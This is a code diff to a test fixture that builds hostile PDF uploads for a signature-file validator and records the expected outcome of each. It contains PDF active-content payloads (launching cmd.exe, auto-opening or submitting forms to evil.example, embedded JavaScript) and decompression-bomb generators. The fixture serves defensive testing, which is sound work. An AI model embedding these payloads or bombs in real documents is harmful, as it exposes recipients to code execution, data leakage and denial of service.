@@ -1,13 +1,11 @@
-/** Files somebody might upload as a signed PDF, and what becomes of each. */
+/** Files that may be uploaded as a signed PDF, and the outcome for each. */
 import { deflateSync } from 'node:zlib'
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
 import { signatureFileSize } from '../../src/domain/limits.ts'
+import type { HostileFile } from './hostile-file.ts'
 import { lzw } from './lzw.ts'
+import { misleadingFiles } from './misleading-tables.ts'
 import { pdfOf, rawPdf } from './pdfs.ts'
-
-/** `done` for a file that is taken, else the code of the refusal. */
-export type Ending = 'done' | 'cla.unsafe_pdf' | 'cla.error_reading_file' | 'cla.wrong_file_type' | 'cla.too_big_pdf'
-export type HostileFile = { name: string; ends: Ending; bytes: () => Promise<Uint8Array> | Uint8Array }
 
 const unsafe = 'cla.unsafe_pdf'
 const damaged = 'cla.error_reading_file'
@@ -100,7 +98,7 @@ const active: readonly (readonly [string, string])[] = [
   ['a script by name', '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'],
   ['a program to launch', '/OpenAction << /S /Launch /F (cmd.exe) >>'],
   ['a page of the web that opens by itself', '/OpenAction << /S /URI /URI (https://evil.example/) >>'],
-  ['the same, told elsewhere', '/OpenAction 4 0 R'],
+  ['the same, as an indirect object', '/OpenAction 4 0 R'],
   ['something that happens on closing', '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>'],
   ['another file to go to', '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
   ['a form that sends itself', '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>'],
@@ -223,7 +221,7 @@ export const hostileFiles: readonly HostileFile[] = [
       withPage('', ...Array.from({ length: 4 }, () => stream('/Filter /RunLengthDecode', runs(40 * 1024 * 1024)))),
   },
   {
-    name: 'a bomb whose filters are told elsewhere',
+    name: 'a bomb whose filters are an indirect object',
     ends: damaged,
     bytes: () => withPage('/Contents 4 0 R', stream('/Filter 5 0 R', lzw(200 * 1024 * 1024)), '/LZWDecode'),
   },
@@ -239,9 +237,10 @@ export const hostileFiles: readonly HostileFile[] = [
     ends: 'done',
     bytes: () => content('[/ASCIIHexDecode /FlateDecode]', text(hex(deflateSync(text('q Q'))))),
   },
+  ...misleadingFiles,
 ]
 
-/** Takes long to look into: many streams that say where their length is told. Other bytes for each number. */
+/** Slow to inspect: many streams whose length is an indirect object. Other bytes for each number. */
 export const slowestBomb = (number: number): Uint8Array =>
   withPage(
     `/Number ${number}`,
